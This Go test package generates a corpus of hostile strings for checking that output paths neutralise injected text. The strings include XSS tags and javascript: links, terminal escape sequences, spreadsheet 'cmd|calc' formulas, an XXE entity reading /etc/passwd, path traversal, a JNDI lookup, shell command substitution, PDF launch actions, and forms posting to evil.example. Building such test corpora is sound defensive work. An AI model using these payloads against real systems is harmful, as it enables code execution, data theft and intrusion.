// Package texttest is the home of hostile text: about three hundred texts, made by rule, that would do something on one of the ways out
// if they could; what fills every text of a value or a file with them; and what each way out is held to.
//
// Text number n of a world has payload number n plus a shift. So one shift tries every payload somewhere, and all shifts try every payload in
// every text. A default run takes two shifts, the same every time; PAYLOADS=all takes all, PAYLOADS=7 takes that one, PAYLOADS=7-20 those.
package texttest

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"testing"
)

// Payload is a text that would act somewhere. Its name says what it is.
type Payload struct{ Name, Text string }

// Payloads lists all of them, in an order that stays.
func Payloads() (all []Payload) {
	for _, family := range []struct {
		name  string
		texts []string
	}{
		{"control", controls()}, {"sequence", sequences()}, {"reference", references()}, {"direction", runes(turning)}, {"hidden", hidden()},
		{"bytes", broken}, {"link", links()}, {"page", pages}, {"cell", cells()}, {"calendar", calendars}, {"xml", documents}, {"question", questions},
		{"markdown", markdowns}, {"template", templates}, {"paper", papers}, {"path", paths}, {"long", long()},
	} {
		for i, text := range family.texts {
			all = append(all, Payload{fmt.Sprintf("%s %d", family.name, i), text})
		}
	}
	return all
}

// Shifts are those that a run takes: two unless PAYLOADS says otherwise. It logs them.
func Shifts(t testing.TB) (shifts []int) {
	t.Helper()
	n := len(Payloads())
	switch asked := os.Getenv("PAYLOADS"); asked {
	case "all":
		for i := range n {
			shifts = append(shifts, i)
		}
	case "":
		shifts = []int{0, n / 2}
	default:
		from, to, several := strings.Cut(asked, "-")
		first, err := strconv.Atoi(from)
		last := first
		if several && err == nil {
			last, err = strconv.Atoi(to)
		}
		if err != nil {
			t.Fatalf("PAYLOADS=%s: give a number, two such as 7-20, or all", asked)
		}
		for i := first; i <= last; i++ {
			shifts = append(shifts, i%n)
		}
	}
	t.Logf("PAYLOADS=%d-%d: %d of %d shifts", shifts[0], shifts[len(shifts)-1], len(shifts), n)
	return shifts
}

// each are texts made of a form, with each of some pieces in it.
func each(form string, pieces ...string) (all []string) {
	for _, piece := range pieces {
		all = append(all, strings.ReplaceAll(form, "%", piece))
	}
	return all
}

// runes has each character alone within a word, so that what is taken away leaves the word.
func runes(these []rune) (all []string) {
	for _, r := range these {
		all = append(all, "w"+string(r)+"x")
	}
	return all
}

// controls are C0, DEL and C1.
func controls() []string {
	var these []rune
	for r := rune(0); r < 0xA0; r++ {
		if r < ' ' || r >= 0x7F {
			these = append(these, r)
		}
	}
	return runes(these)
}

// sequences are what terminals obey, in the forms in which ESC can be written: the byte, as TOML and programs escape it, and as references of
// HTML, once and twice; and with the introducers of eight bits.
func sequences() (all []string) {
	after := []string{ // of four words at most: no more may stand in a lead and in a variant of it
		"[2J", "[4;9;53m", "[6n", "c", "]0;owned\a", "]8;;file:x\a", "]52;;aGk=\x1b\\", "P$q\x1b\\", "_Gf=1\x1b\\", "^pm\x1b\\",
	}
	for _, esc := range []string{"\x1b", `\u001b`, `\x1b`, "&#27;", "&#x1B;", "&#0000027", "&amp;#27;", "&&##2277;;"} {
		for _, sequence := range after {
			all = append(all, strings.ReplaceAll(esc+sequence, "\x1b", esc))
		}
	}
	eight := map[string]string{"[2J": "\u009b", "]0;owned\a": "\u009d", "]52;;aGk=\x1b\\": "\u009d", "P$q\x1b\\": "\u0090", "_Gf=1\x1b\\": "\u009f"}
	for _, sequence := range after {
		if introducer := eight[sequence]; introducer != "" {
			all = append(all, introducer+strings.ReplaceAll(sequence[1:], "\x1b\\", "\u009c"))
		}
	}
	return all
}

// references stand for what acts or opens a tag, in the ways in which HTML has them.
func references() (all []string) {
	for _, r := range []rune{0x07, 0x0D, 0x9B, 0x202E, '<'} {
		all = append(all, fmt.Sprintf("a&#%d;b>c", r), fmt.Sprintf("a&#x%X;b>c", r), fmt.Sprintf("a&amp;#%d;b>c", r))
	}
	return append(all, "a&Tab;&NewLine;b", "a&rlm;&ZeroWidthSpace;b", "&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt;", "a&#;&#x;&#99999999;&unknown;b")
}

// turning are the characters that turn the direction of reading, annotate, or are deprecated.
var turning = []rune{0x61C, 0x200E, 0x200F, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0x206A, 0x206F, 0xFFF9, 0xFFFB, 0x2028, 0x2029}

// hidden are those that show nothing, or choose how another is shown, or stand on one another.
func hidden() []string {
	return append(runes([]rune{
		0xAD, 0x180E, 0x200B, 0x200C, 0x200D, 0x2060, 0x2064, 0xFEFF, 0xFE00, 0xFE0F, 0xE0100, 0xE0001, 0xE0041, 0xE007F, 0x115F, 0x3164, 0xE000, 0xFFFE, 0x10FFFF,
	}), "🏴\U000e0067\U000e0062x", "a"+strings.Repeat("\u0301\u0323", 40), "夜間の投稿 👩\u200d⚕\ufe0f🇮🇪 Nguye\u0302\u0303n สวัสดี")
}

// broken is no UTF-8: bytes alone, a sequence that is cut, one that is too long, half of a pair, and what is beyond Unicode.
var broken = []string{"a\xffb", "a\x9b2Jb", "a\xe2\x80", "a\xc0\xafb", "a\xed\xa0\x80b", "a\xf4\x90\x80\x80b"}

// links lead to where no text from outside may lead, in the ways in which Markdown and HTML write them.
func links() (all []string) {
	for _, form := range []string{"[go](%)", "![see](%)", "<%>", "[go][r]\n\n[r]: %", `<a href="%">go</a>`, "%"} {
		all = append(all, each(form, "javascript:alert(1)", "JaVaScRiPt&colon;alert(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "vbscript:x")...)
	}
	return all
}

// pages are what a browser would run or load, and what would end the element that they stand in.
var pages = []string{
	"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<iframe srcdoc='<script>alert(1)</script>'>",
	"<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=//evil.example>", "<link rel=stylesheet href=//evil.example>", "<style>*{display:none}</style>",
	"<form action=//evil.example><input name=x>", "<object data=x>", "<math><mi xlink:href=javascript:x>", "<details open ontoggle=alert(1)>", "<b onmouseover=alert(1)>bold</b>",
	`" onfocus="alert(1)" x="`, `' onfocus='alert(1)' x='`, `"><script>alert(1)</script>`, "</script><script>alert(1)</script>", "</title></style></textarea><script>alert(1)</script>",
	"<!-- never closed", "<![CDATA[x", "<plaintext>", "<script", "<<script>script>alert(1)", "<p style=position:fixed>over", "</template><script>alert(1)</script>",
}

// cells are what a spreadsheet takes for a formula, and what would end a cell or a row.
func cells() []string {
	all := []string{"\t=1+1", "\r=1+1", " =1+1", "a\",\"=1+1", "a\n=1+1,b", `"=1+1"`, "＝1+1", "-"}
	return append(append(all, each("%cmd|' /C calc'!A0", "=", "+", "-", "@")...), each("%1+1", "=", "+", "-", "@")...)
}

// calendars would end a line of iCalendar or begin a component.
var calendars = []string{"a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:owned", "a\nATTACH:file:///etc/passwd", `a\nb\,c\;d\`, "a;b,c:d", "a\r\n ATTENDEE:b", strings.Repeat("é", 80)}

// documents would end a text of XML or name what is elsewhere.
var documents = []string{
	"]]>", "]]><evil/>", "</text><evil/>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "&e;", "<?php x ?>", "<?xml version='1.0'?>", "a & b < c > d",
}

// questions are what GIFT and Moodle read as their own.
var questions = []string{
	"{=a ~b}", "}", "{", "~=#", "a\n\n::t::b{T}", "// a comment", "$CATEGORY: a/b", "[html]<b onclick=x>", "a->b", "%50%c", "::title::", "{{#1}}{1:SA:=a}", "@@PLUGINFILE@@/x", `a\{b\`,
}

// markdowns are what Markdown reads as its own.
var markdowns = []string{
	"# heading", "```\ncode", "````", "~~~\ncode", "| a | b |\n|---|---|\n| c | d |", "a | b", "[^1]\n\n[^1]: note", "> quoted", "- item", "1. item", "---", "a\n===", "    code", "*a **b _c `d", "a\\", "![a](b \"c\")",
	"+ item", "7) item", "===", "~~struck~~",
}

// templates are what programs that fill in forms read as their own.
var templates = []string{"{{.}}", "{{template \"x\"}}", "${jndi:ldap://x}", "%s%n%!d(x)", "<%= x %>", "#{x}", "$(touch owned)", "`touch owned`", "%7B%0d%0aX: y"}

// papers would end a text of a PDF and begin an action.
var papers = []string{") /JS (app.alert(1)) /S /JavaScript (", `\) >> endobj 9 0 obj << /S /URI /URI (javascript:x) >> \`, ">> /OpenAction << /S /Launch /F (calc) >>", "endstream endobj", `(a\`}

// paths lead out of a folder, or are names that systems keep for themselves.
var paths = []string{"../../etc/passwd", "/etc/passwd", `..\..\x`, `C:\x`, "con.txt", "a/b", "~/x", "-o"}

// long are words that no line has room for.
func long() []string {
	return []string{strings.Repeat("w", 300), strings.Repeat("wide", 60) + strings.Repeat("語", 100), strings.Repeat("m\u0301", 150), strings.Repeat("a b ", 100)}
}
